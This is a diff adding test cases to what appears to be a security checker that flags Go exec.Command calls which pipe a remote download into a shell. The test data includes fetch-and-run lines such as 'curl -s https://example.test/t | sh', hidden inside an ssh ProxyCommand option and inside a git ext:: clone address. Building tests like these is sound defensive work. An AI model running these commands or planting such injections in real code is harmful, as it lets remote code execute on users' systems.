@@ -1074,6 +1074,34 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
   ],
   "fetching-shell-line": [
     {
+      what: "a line in an option",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          arguments: constants("ssh", "-oProxyCommand=curl -s https://example.test/t | sh", "x"),
+        }),
+      ],
+      tier: "block",
+      says: /: curl -s https:\/\/example\.test\/t \| sh$/u,
+    },
+    {
+      what: "a line in an address of git",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          arguments: constants("git", "clone", "ext::sh -c curl% -s% https://example.test/t|sh", "x"),
+        }),
+      ],
+      tier: "block",
+    },
+    {
+      what: "an option that only names such programs",
+      changes: [
+        call("os/exec.Command", ["EXEC"], {
+          arguments: constants("docker", "run", "--env=TOOLS=curl wget | sort", "sh", "x"),
+        }),
+      ],
+      tier: "nothing",
+    },
+    {
       what: "the input of a shell",
       changes: [call("os/exec.Command", ["EXEC"], { arguments: constants("/bin/sh") })],
       known: { values: [{ name: "strings.NewReader", value: "curl -s http://a.example.test | sh" }] },
